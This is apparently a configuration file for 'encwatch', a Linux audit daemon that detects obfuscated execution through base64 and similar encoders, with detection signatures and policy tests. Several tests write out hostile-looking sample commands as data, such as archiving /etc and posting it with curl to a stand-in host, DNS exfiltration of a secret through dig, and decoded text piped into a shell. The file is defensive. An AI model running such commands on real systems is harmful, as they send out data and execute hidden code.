# encwatch policy. Installed as /etc/encwatch/config.hcl; files in
# /etc/encwatch/conf.d/*.hcl are read after it, in lexical order, as part of
# the same policy. The daemon refuses any of them that is not owned by root
# or is writable by group or others. Check a change with `encwatch validate`.

settings {
  # Every alert carries it: ci, staging, production or a word of your own.
  environment = "production"
  # Names this machine in alerts; empty means the system hostname.
  hostname = ""
  # Ancestors (pid, exe, argv, uid) each alert carries.
  ancestry_depth = 8
  # Safety cap: new alerts (commands not seen before in their throttle
  # window) per source and minute; a source is one user (uid and login
  # auid) on one host, so one user's flood never holds another's alerts.
  # Past it, one alert_flood (critical) names the user at once, and their
  # further alerts are held and reported in alerts_suppressed summaries
  # when the minute ends; never dropped. Critical alerts have a cap of
  # their own, ten times this one.
  alert_cap_per_minute = 1000
  # Encoder binaries identified by device, inode and SHA-256 at start-up and
  # on reload, so that a renamed or copied one still matches. Missing ones
  # are skipped; a multi-call binary (busybox) is not used.
  encoder_binaries = [
    "/usr/bin/base64", "/usr/bin/base32", "/usr/bin/basenc", "/usr/bin/xxd",
    "/usr/bin/uuencode", "/usr/bin/uudecode",
  ]
}

audit {
  # encwatch is the audit daemon: it holds the kernel's audit pid and reads
  # records over netlink. Do not run auditd beside it.
  mode    = "owner"
  enabled = true

  # Records the kernel queues while encwatch is busy.
  backlog_limit = 8192
  # When the backlog is full, how long (in kernel ticks, jiffies: the kernel's
  # default is 60 s, 60*HZ) an audited process waits for room. 0 drops
  # records instead, counted as lost, and never stalls a process; a positive
  # value loses nothing until it runs out but can stall every exec on the
  # machine while encwatch is slow. Left out, the kernel's value is kept.
  # backlog_wait_time = 0
  # Records per second, 0 for no limit.
  rate_limit = 0
  # What the kernel does when it loses a record: silent, printk or panic.
  # Leave it out to keep the kernel's value.
  failure = "printk"

  # Key of encwatch's audit rules; it removes only rules with this key.
  rule_key = "encwatch"
  # After the first record arrives, let more gather this long before reading
  # them in one go; while records keep coming they are read once per window.
  # Fewer wake-ups for at most this much alert latency (docs/performance.md).
  gather_window = "20ms"
  # Complete an event whose closing record never came after this long.
  event_timeout = "2s"
  # Events assembled at once, at most.
  max_in_flight = 4096
}

# ---------------------------------------------------------------------------
# Signatures. docs/policy.md describes every condition; `encwatch check
# --config FILE -- ARGV...` shows what a command line would raise.

signature "data_encoder_exec" {
  description = "Data encoder execution"
  category    = "Execution"
  method      = "Command and Scripting Interpreter"
  importance  = "high"
  mitre       = ["T1059", "T1027", "T1132"]
  # Matched against the basename of the executed file and of argv[0], so a
  # busybox applet or a renamed copy is caught too.
  match {
    executables = [
      "base16", "base32", "base32hex", "base32plain", "base58", "base64",
      "base64mime", "base64pem", "base64plain", "base64url", "basez", "ascii85",
      "urlencode", "uuencode", "uudecode", "basenc", "xxd",
    ]
  }
  # openssl is an encoder only when asked to be: "openssl base64",
  # "openssl enc -a", a cipher with -a. openssl x509, s_client and friends
  # have no mode and stay quiet.
  match {
    executables = ["openssl"]
    mode        = "encode"
  }
  match {
    executables = ["openssl"]
    mode        = "decode"
  }
  # Decoders by behaviour: interpreters' standard-library modules run as
  # tools (python3 -m base64 -d, -m uu, -m quopri) and armour (gpg
  # --enarmor wraps any data in base64; --dearmor, which installs every
  # apt keyring, is left out).
  match {
    executables = ["python", "pypy", "gpg", "gpg2"]
    mode        = "decode"
  }
  match {
    executables = ["python", "pypy", "gpg", "gpg2"]
    mode        = "encode"
  }
  # Every run alerts, encoding and decoding alike: decoding hides a
  # payload, encoding is how data leaves a host (T1132). The alert's
  # process.mode says which ("encode", "decode", "unknown"). Quiet a known
  # job with an allow block (docs/policy.md has one for a CI runner), not
  # here.

  # Identical repeats (same executable, argv and parent) within a minute
  # coalesce into the first alert and an alerts_suppressed summary; a
  # command not seen before is always raised (up to the safety cap).
  throttle {
    per    = "parent_exe"
    window = "1m"
  }
  actions {
    default    = ["Review the decoded data and the parent process"]
    ci         = ["Check the pipeline step that ran it; expected only for secrets decoding"]
    production = ["Identify the parent process and its user", "Preserve the decoded output", "Escalate if the parent is a web server or a shell without a tty"]
  }
  actions "encode" {
    default    = ["Find what was encoded and where the output went"]
    ci         = ["Check the pipeline step that ran it; allow it if it encodes build artefacts"]
    production = ["Identify the parent process and its user", "Find what was encoded and where the output went (network tools, files in /tmp)", "Escalate if the input is a secret (keys, /etc/shadow, credentials)"]
  }
}

signature "decoder_piped_to_interpreter" {
  description = "Decoded data fed to a shell or interpreter"
  category    = "Defense Evasion"
  method      = "Deobfuscate/Decode Files or Information"
  importance  = "critical"
  mitre       = ["T1140", "T1027", "T1059.004"]
  # echo ... | base64 -d | bash: both are children of the same shell and
  # exec within milliseconds, in either order, and the decoder's standard
  # output is the interpreter's standard input (directly, or through
  # filters). Shown to share no pipe (base64 -d f > out; bash build.sh),
  # they are raised at unpiped_importance.
  sequence {
    by                 = "parent"
    within             = "3s"
    pipe               = "decoder | interpreter"
    unpiped_importance = "high"
    step "decoder" {
      # Module decoders (python3 -m base64 -d) and renamed or copied
      # decoders (recognised by what the file is) count too.
      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
      mode        = "decode"
    }
    step "interpreter" {
      # Any interpreter, however reached: a version-manager shim or
      # /usr/bin/env execs the real one in the same process, under the same
      # parent; filters between decoder and interpreter (gunzip, tr, rev)
      # are siblings too and do not break the correlation.
      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
      # The decoded stream is the program: read from standard input (sh,
      # sh -s, python3 -, perl -, /dev/stdin) or a descriptor the
      # interpreter names (sh /dev/fd/3 3<&0). A script's or a module's
      # standard input is its data: `… | gunzip` runs `sh /usr/bin/gunzip`,
      # `… | python3 -m json.tool` a module; neither is raised here.
      program_from = ["stdin", "fd"]
    }
  }
  actions {
    default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded script", "Isolate the host if the parent is unexpected"]
  }
}

signature "decoded_command_executed" {
  description = "Decoded text run by a shell or interpreter as its code"
  category    = "Defense Evasion"
  method      = "Deobfuscate/Decode Files or Information"
  importance  = "critical"
  mitre       = ["T1140", "T1027", "T1059.004"]
  # bash -c "$(echo … | base64 -d)": the decoder's output is a pipe its
  # shell reads (command substitution), and that shell then runs an
  # interpreter with inline code. bash <(echo … | base64 -d): the
  # interpreter reads its program from /dev/fd/63, the decoder's pipe.
  # The decoder runs in a subshell of the shell that runs the interpreter
  # (by lineage). Inline code is paired live: the shell held the decoder's
  # output pipe and then ran the interpreter ("captured"), or the decoder
  # was gone before it could be read (a quick attacker gains nothing).
  # Shown not to be so (the decoder wrote a file, or a pipe no shell above
  # it reads, or the code ran first), there is no pair: a decoder beside
  # "sh -c" under one shell is everyday work. A replay, which reads no
  # descriptors, pairs no inline code. A /dev/fd/N program is a pipe,
  # compared as for decoder_piped_to_interpreter.
  # PASS=$(… | base64 -d); mysql -p"$PASS" runs no interpreter. Not ordered: bash <(…) may exec
  # before its decoder does (inline code is only ever run after it).
  sequence {
    by                 = "lineage"
    within             = "3s"
    pipe               = "decoder | interpreter"
    unpiped_importance = "high"
    step "decoder" {
      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
      mode        = "decode"
    }
    step "interpreter" {
      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
      program_from = ["inline", "fd"]
    }
  }
  actions {
    default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded command from the interpreter's argv", "Find what started the shell"]
  }
}

signature "decoder_then_tmp_exec" {
  description = "Decoded data followed by an exec from a world-writable directory"
  category    = "Defense Evasion"
  method      = "Deobfuscate/Decode Files or Information"
  importance  = "critical"
  mitre       = ["T1140", "T1105"]
  sequence {
    by     = "parent"
    within = "30s"
    ordered = true
    step "decoder" {
      executables = ["base64", "base32", "basenc", "base16", "base58", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
      mode        = "decode"
    }
    # Failed execs count: a decoded script without a shebang fails with
    # ENOEXEC before the shell runs it itself.
    step "tmp_exec" {
      paths = ["/tmp/*", "/dev/shm/*", "/var/tmp/*", "/run/user/*"]
    }
  }
  actions {
    default = ["Hash and preserve the executed file", "Isolate the host"]
  }
}

signature "interpreter_inline_decode" {
  description = "Interpreter decoding an inline blob"
  category    = "Defense Evasion"
  method      = "Obfuscated Files or Information"
  importance  = "high"
  mitre       = ["T1027", "T1140", "T1059"]
  executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "expect", "lua", "pwsh", "powershell"]
  # Every decoder of the interpreters' standard libraries: base64, base32,
  # hex, base85, uu, quoted-printable, and rot13 or decompression when the
  # code also runs something; PowerShell's -EncodedCommand (-e, -ec, -enc,
  # ... any abbreviation PowerShell accepts, in any case) is a base64
  # decode of the command it runs.
  match {
    decode_calls = ["base64", "base32", "base85", "uu", "qp", "rot13", "compressed"]
  }
  match {
    payload = ["shell", "blob", "elf", "shebang"]
    payload_encodings = ["base64", "base32"]
  }
  throttle {
    per    = "ancestry"
    window = "1m"
  }
  actions {
    default = ["Read the decoded preview in the alert", "Find what started the interpreter"]
  }
}

signature "base64_shebang_cmdline" {
  description = "Base64-encoded script (shebang) in a command line"
  category    = "Defense Evasion"
  method      = "Obfuscated Files or Information"
  importance  = "critical"
  mitre       = ["T1027", "T1140"]
  executables = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "echo", "printf"]
  payload           = ["shebang", "elf"]
  payload_encodings = ["base64", "base32"]
  # Identical repeats of one file (by device and inode, whatever its path
  # says: "/tmp/x", "/tmp/x (deleted)", "/dev/fd/3") coalesce.
  throttle {
    per    = "parent_exe"
    window = "1m"
  }
  actions {
    default = ["Capture the decoded script from the alert preview", "Isolate the host"]
  }
}

signature "hex_payload_decode" {
  description = "Hex payload decoded"
  category    = "Defense Evasion"
  method      = "Deobfuscate/Decode Files or Information"
  importance  = "high"
  mitre       = ["T1140", "T1027"]
  match {
    executables = ["xxd"]
    mode        = "decode"
  }
  match {
    executables  = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs"]
    decode_calls = ["hex"]
  }
  match {
    executables       = ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "echo", "printf"]
    payload           = ["shebang", "elf", "shell"]
    payload_encodings = ["hex"]
  }
  throttle {
    per    = "parent_exe"
    window = "1m"
  }
  actions {
    default = ["Review the decoded bytes and the parent process"]
  }
}

signature "encoder_then_network" {
  description = "Encoded data sent to a network tool (exfiltration)"
  category    = "Exfiltration"
  method      = "Data Encoding"
  importance  = "critical"
  mitre       = ["T1132.001", "T1048", "T1041"]
  # tar cz /etc | base64 | curl -d @- ...: the encoder's standard output is
  # the pipe the network tool reads. Two children of one shell within
  # seconds of each other (xxd f | head, then curl) are only a guess: shown
  # to share no pipe, they are raised at unpiped_importance. A pipe that
  # cannot be checked (a process gone too soon, a replay) is not held
  # against the alert. By lineage: the network tool may run in a subshell
  # of the encoder's shell (base32 -w0 f | fold -w 40 | while read l; do
  # dig $l.x.invalid; done), and filters between them relay the data.
  sequence {
    by                 = "lineage"
    within             = "10s"
    pipe               = "encoder | network"
    unpiped_importance = "medium"
    step "encoder" {
      executables = ["base64", "base32", "basenc", "base16", "base58", "xxd", "openssl", "uuencode", "python", "pypy", "gpg", "gpg2"]
      mode        = "encode"
    }
    step "network" {
      # DNS tools carry data in the names they look up.
      executables = ["curl", "wget", "nc", "ncat", "netcat", "socat", "dig", "nslookup", "host", "drill", "kdig", "delv", "telnet"]
    }
  }
  actions {
    default    = ["Find the destination in the network tool's arguments", "Check what data was encoded"]
    production = ["Block the destination", "Find the destination in the network tool's arguments", "Check what data was encoded"]
  }
}

signature "decoder_under_server" {
  description = "Decoder run by a web, application or database server"
  category    = "Persistence"
  method      = "Server Software Component: Web Shell"
  importance  = "critical"
  mitre       = ["T1505.003", "T1140", "T1059"]
  # A web shell decoding its payload: a decoder, or an interpreter decoding
  # inline, whose ancestry holds a server. The servers are this list, by
  # executable or by the process title they set ("php-fpm: pool www",
  # "postgres: app db", "nginx: worker process"); java and node count only
  # when their command line shows an application server (a CI agent such
  # as Jenkins runs java too). Edit the lists for the servers of this host;
  # the alert names the ancestor that made it critical.
  ancestor_executables = [
    "nginx", "apache2", "apache", "httpd", "lighttpd", "caddy", "traefik", "envoy", "haproxy",
    "php-fpm", "php-cgi", "uwsgi", "gunicorn", "uvicorn", "hypercorn", "puma", "unicorn", "passenger",
    "tomcat", "catalina", "jboss", "wildfly", "weblogic", "jetty", "glassfish",
    "postgres", "postmaster", "mysqld", "mariadbd", "redis-server", "mongod", "sqlservr",
  ]
  match {
    executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
    mode        = "decode"
  }
  match {
    executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "lua", "pwsh", "powershell"]
    decode_calls = ["any"]
  }
  throttle {
    per    = "ancestry"
    window = "1m"
  }
  actions {
    default = ["Treat as a web shell: find the request that ran it in the server's logs", "Preserve the decoded payload", "Isolate the host"]
  }
}

signature "decoder_under_app_server" {
  description = "Decoder run by a Java or Node application server"
  category    = "Persistence"
  method      = "Server Software Component: Web Shell"
  importance  = "critical"
  mitre       = ["T1505.003", "T1140", "T1059"]
  # The same for servers whose executable is a runtime: java running an
  # application server, node running a server script or under pm2.
  ancestor_regex = "^\\S*java\\b.*(org\\.apache\\.catalina|jboss|wildfly|weblogic|jetty|glassfish|websphere|spring-boot|\\.war\\b)|^\\S*node(js)?\\b.*\\b(server|app|www|main)\\.[cm]?js\\b|^PM2 "
  match {
    executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
    mode        = "decode"
  }
  match {
    executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "lua", "pwsh", "powershell"]
    decode_calls = ["any"]
  }
  throttle {
    per    = "ancestry"
    window = "1m"
  }
  actions {
    default = ["Treat as a web shell: find the request that ran it in the application's logs", "Preserve the decoded payload", "Isolate the host"]
  }
}

signature "renamed_encoder" {
  description = "Renamed or copied encoder binary"
  category    = "Defense Evasion"
  method      = "Masquerading"
  importance  = "high"
  mitre       = ["T1036.003", "T1027"]
  # The executed file is a known encoder under another name: same device
  # and inode, build id, SHA-256 or executable code (a patched build id).
  match {
    renamed_encoder = true
  }
  # argv[0] names an encoder the kernel did not run.
  match {
    executables    = ["base64", "base32", "basenc", "base16", "base58", "uudecode", "uuencode", "xxd"]
    argv0_mismatch = true
  }
  # Identical repeats of one file (by device and inode, whatever its path
  # says: "/tmp/x", "/tmp/x (deleted)", "/dev/fd/3") coalesce.
  throttle {
    per    = "parent_exe"
    window = "1m"
  }
  actions {
    default = ["Find who copied the binary and where it lives", "Hash and preserve it"]
  }
}

signature "unidentified_exec" {
  description = "User's executable gone before it could be identified"
  category    = "Defense Evasion"
  method      = "Masquerading"
  importance  = "medium"
  mitre       = ["T1036.003", "T1070.004", "T1027"]
  # A file someone other than root owns (or may write) ran, and could not be
  # read to tell whether it is a renamed encoder: deleted right after its
  # exec, with its process and every process it could be read through
  # gone, or another file put at its path. Short-lived build products
  # (./configure's conftest, go run) do this too: quiet a build user with
  # an allow block (docs/policy.md), not here.
  unidentified_exec = true
  # Repeats of the same command on the host coalesce, whatever the parent.
  throttle {
    per    = "host"
    window = "10m"
  }
  actions {
    default = ["Find who created and deleted the file (ancestry, cwd)", "Check the user's other executions around it"]
  }
}

signature "inline_decoder_piped_to_interpreter" {
  description = "Inline-code decoder fed to a shell or interpreter"
  category    = "Defense Evasion"
  method      = "Deobfuscate/Decode Files or Information"
  importance  = "critical"
  mitre       = ["T1140", "T1027", "T1059"]
  # python3 -c 'print(base64.b64decode(...))' | sh, perl -MMIME::Base64 -e
  # ... | bash: the decoder is an interpreter's standard library, not a tool.
  sequence {
    by                 = "parent"
    within             = "3s"
    pipe               = "decoder | interpreter"
    unpiped_importance = "high"
    step "decoder" {
      executables  = ["python", "pypy", "perl", "ruby", "php", "node", "nodejs", "expect", "lua"]
      decode_calls = ["any"]
    }
    step "interpreter" {
      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
      program_from = ["stdin", "fd"]
    }
  }
  actions {
    default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded script"]
  }
}

signature "rot13_piped_to_interpreter" {
  description = "Character-rotated or reversed text fed to a shell or interpreter"
  category    = "Defense Evasion"
  method      = "Deobfuscate/Decode Files or Information"
  importance  = "high"
  mitre       = ["T1140", "T1027"]
  # echo ... | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh, echo ... | rev | bash
  sequence {
    by                 = "parent"
    within             = "3s"
    pipe               = "filter | interpreter"
    unpiped_importance = "medium"
    step "filter" {
      executables = ["tr", "rev"]
      args_regex  = "^$|N-ZA-M|n-za-m|P-~!-O"
    }
    step "interpreter" {
      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "python", "perl", "ruby", "php", "node", "nodejs", "tclsh"]
      program_from = ["stdin", "fd"]
    }
  }
  actions {
    default = ["Capture the script the filter produced", "Find what started the pipeline"]
  }
}

signature "fileless_exec" {
  description = "Program executed without a regular file (memfd, deleted file, file descriptor)"
  category    = "Defense Evasion"
  method      = "Reflective Code Loading"
  importance  = "critical"
  mitre       = ["T1620", "T1027", "T1140"]
  # Decoded content run straight from memory: memfd_create + execveat shows
  # exe "/memfd:NAME (deleted)"; a file deleted before or right after its
  # exec "... (deleted)"; fexecve and execveat(fd, "") name "/dev/fd/N".
  exe_regex = "^/memfd:| \\(deleted\\)$|^/dev/fd/[0-9]+$|^/proc/(self|thread-self|[0-9]+)/fd/[0-9]+$"
  # Identical repeats of one file (by device and inode, whatever its path
  # says: "/tmp/x", "/tmp/x (deleted)", "/dev/fd/3") coalesce.
  throttle {
    per    = "parent_exe"
    window = "1m"
  }
  actions {
    default = ["Dump the process memory before it exits", "Find who created the descriptor (parent, ancestry)", "Isolate the host"]
  }
}

# ---------------------------------------------------------------------------
# Suppressions. Each is counted by its reason in the metrics.

allow "help_and_version" {
  reason      = "asking a tool for its help or version decodes nothing"
  any_flags   = ["--help", "--version"]
  max_args    = 1
}

# A CI runner that base64-encodes its build artefacts: see docs/policy.md
# ("Quieting a CI runner") for an allow block scoped to encode mode under
# the runner, with tests. Encoding anywhere else still alerts.

allow "busybox_applets" {
  reason      = "multi-call binaries (busybox, toybox) run their applets under the applet's name"
  signatures  = ["renamed_encoder"]
  # busybox runs its applets under any name that starts with its own
  # ("busybox-static base64"); the applet itself still raises its alerts.
  exe_regex   = "/(busybox|toybox)[^/]*$"
}

# ---------------------------------------------------------------------------
# Policy tests, run by `encwatch validate`.

test "pipeline_to_shell" {
  command = "sh -c 'echo IyEvYmluL3NoCmlkCg== | base64 -d | sh'"
  expect  = ["decoder_piped_to_interpreter", "data_encoder_exec", "interpreter_inline_decode", "base64_shebang_cmdline"]
}

test "plain_decode" {
  argv   = ["base64", "-d", "secret.b64"]
  expect = ["data_encoder_exec"]
}

test "user_binary_is_not_an_encoder" {
  # A user's own program, whatever its name, is neither a renamed encoder
  # nor unidentified when nothing hid it (tests read no files).
  argv       = ["/home/alice/bin/kitty", "-d"]
  expect_not = ["renamed_encoder", "unidentified_exec", "data_encoder_exec"]
}

test "version_is_quiet" {
  argv       = ["base64", "--version"]
  expect_not = ["data_encoder_exec", "renamed_encoder"]
}

test "encode_alerts" {
  command = "base64 -w0 cert.pem"
  expect  = ["data_encoder_exec"]
}

test "quick_start_encode" {
  command = "sh -c 'echo hello | base64'"
  expect  = ["data_encoder_exec"]
}

test "encode_file_alerts" {
  argv   = ["base64", "/etc/shadow"]
  expect = ["data_encoder_exec"]
}

test "base32_encode_alerts" {
  argv   = ["base32", "notes.txt"]
  expect = ["data_encoder_exec"]
}

test "basenc_encode_alerts" {
  argv   = ["basenc", "--base64", "notes.txt"]
  expect = ["data_encoder_exec"]
}

test "uuencode_alerts" {
  argv   = ["uuencode", "notes.txt", "notes.txt"]
  expect = ["data_encoder_exec"]
}

test "uudecode_alerts" {
  argv   = ["uudecode", "notes.uu"]
  expect = ["data_encoder_exec"]
}

test "decode_prefix_after_operand" {
  argv   = ["base64", "payload.b64", "--deco"]
  expect = ["data_encoder_exec"]
}

test "double_dash_file_is_encode" {
  # A file named -d: encoding, which alerts all the same.
  argv       = ["base64", "--", "-d"]
  expect     = ["data_encoder_exec"]
  expect_not = ["hex_payload_decode"]
}

test "help_alone_is_quiet" {
  argv       = ["base64", "--help"]
  expect_not = ["data_encoder_exec"]
}

test "python_inline" {
  argv   = ["python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"]
  expect = ["interpreter_inline_decode"]
}

test "xxd_revert" {
  command = "xxd -r -p payload.hex"
  parent  = "bash"
  expect  = ["hex_payload_decode"]
}

test "xxd_dump_is_quiet" {
  command    = "xxd -p /dev/urandom"
  expect_not = ["hex_payload_decode"]
}

test "openssl_base64_encode_alerts" {
  command = "openssl base64 -in /etc/shadow"
  expect  = ["data_encoder_exec"]
}

test "openssl_enc_decode_alerts" {
  command = "openssl enc -d -a -in payload.b64"
  expect  = ["data_encoder_exec"]
}

test "openssl_x509_is_quiet" {
  command    = "openssl x509 -in cert.pem -noout -text"
  expect_not = ["data_encoder_exec"]
}

test "exfiltration" {
  command = "sh -c 'tar cz /etc | base64 | curl -d @- https://example.invalid/u'"
  expect  = ["encoder_then_network"]
}

test "script_reading_decoded_data_is_not_critical" {
  # Debian's gunzip, zcat, zgrep are /bin/sh scripts: the exec is
  # "sh /usr/bin/gunzip", whose standard input is data, not its program.
  command    = "sh -c 'base64 -d a.b64 | sh /usr/bin/gunzip | tar tv'"
  expect     = ["data_encoder_exec"]
  expect_not = ["decoder_piped_to_interpreter"]
}

test "module_reading_decoded_data_is_not_critical" {
  command    = "sh -c 'base64 -d a.b64 | python3 -m json.tool'"
  expect     = ["data_encoder_exec"]
  expect_not = ["decoder_piped_to_interpreter"]
}

test "decoded_program_on_another_descriptor" {
  # sh /dev/fd/3 3<&0 </dev/null: the program is descriptor 3, the
  # decoder's pipe; standard input is /dev/null.
  command = "sh -c 'cat t.b64 | base64 -d | sh /dev/fd/3 3<&0 </dev/null'"
  expect  = ["decoder_piped_to_interpreter"]
}

test "decoded_program_on_stdin" {
  command = "sh -c 'cat t.b64 | base64 -d | python3 -'"
  expect  = ["decoder_piped_to_interpreter"]
}

test "python_module_decoder" {
  argv   = ["python3", "-m", "base64", "-d"]
  expect = ["data_encoder_exec"]
}

test "python_module_decoder_piped_to_sh" {
  command = "sh -c 'echo ZWNobyBoaQo= | python3 -m base64 -d | sh'"
  expect  = ["decoder_piped_to_interpreter", "data_encoder_exec"]
}

test "python_json_tool_is_no_decoder" {
  argv       = ["python3", "-m", "json.tool"]
  expect_not = ["data_encoder_exec"]
}

test "pwsh_encoded_command" {
  argv   = ["pwsh", "-NoProfile", "-enc", "ZQBjAGgAbwAgAGgAaQA="]
  expect = ["interpreter_inline_decode"]
}

test "pwsh_encoded_command_slash_abbreviation" {
  argv   = ["powershell", "/EC", "ZQBjAGgAbwAgAGgAaQA="]
  expect = ["interpreter_inline_decode"]
}

test "gpg_enarmor" {
  argv   = ["gpg", "--enarmor", "secret.tar"]
  expect = ["data_encoder_exec"]
}

test "gpg_verify_is_quiet" {
  argv       = ["gpg", "--verify", "release.asc"]
  expect_not = ["data_encoder_exec"]
}

test "python_nested_decode_call" {
  argv   = ["python3", "-c", "import codecs;print(codecs.decode(open(\"q\").read(),\"base64\"))"]
  expect = ["interpreter_inline_decode"]
}

test "node_nested_decode_call" {
  argv   = ["node", "-e", "console.log(Buffer.from(require(\"fs\").readFileSync(\"q\",\"utf8\"),\"base64\").toString())"]
  expect = ["interpreter_inline_decode"]
}

test "decoder_under_php_fpm" {
  argv   = ["base64", "-d"]
  parent = "php-fpm: pool www"
  expect = ["decoder_under_server", "data_encoder_exec"]
}

test "inline_decode_under_nginx" {
  command = "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"
  parent  = "nginx: worker process"
  expect  = ["decoder_under_server"]
}

test "decoder_under_tomcat" {
  argv   = ["base64", "-d"]
  parent = "/usr/bin/java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start"
  expect = ["decoder_under_app_server"]
}

test "decoder_under_jenkins_agent_is_not_a_web_shell" {
  argv       = ["base64", "-d"]
  parent     = "/usr/bin/java -jar agent.jar -url http://ci.example.invalid"
  expect     = ["data_encoder_exec"]
  expect_not = ["decoder_under_app_server", "decoder_under_server"]
}

test "decoder_under_a_shell_is_not_a_web_shell" {
  argv       = ["base64", "-d"]
  expect_not = ["decoder_under_server", "decoder_under_app_server"]
}

test "process_substitution_runs_decoded_text" {
  # bash -c "$(… | base64 -d)" is paired only live, where the shell
  # capturing the decoder's output is seen (tests read no descriptors).
  command = "bash -c 'bash <(echo ZWNobyBoaQo= | base64 -d)'"
  expect  = ["decoded_command_executed"]
}

test "decoded_password_is_not_a_command" {
  command    = "sh -c 'PASS=$(echo aHVudGVyMg== | base64 -d); mysql -p\"$PASS\"'"
  expect     = ["data_encoder_exec"]
  expect_not = ["decoded_command_executed", "decoder_piped_to_interpreter"]
}

test "encoder_to_dns_through_a_loop" {
  command = "sh -c 'base32 -w0 secret | fold -w 40 | while read l; do dig $l.x.invalid; done'"
  expect  = ["encoder_then_network"]
}

test "git_is_quiet" {
  command    = "git commit -m 'fix build'"
  expect_not = ["data_encoder_exec", "interpreter_inline_decode"]
}

sink "stdout" "console" {
  format = "json"
}

# sink "file" "alerts" {
#   path = "/var/log/encwatch/alerts.jsonl"
#   mode = "0600"
# }
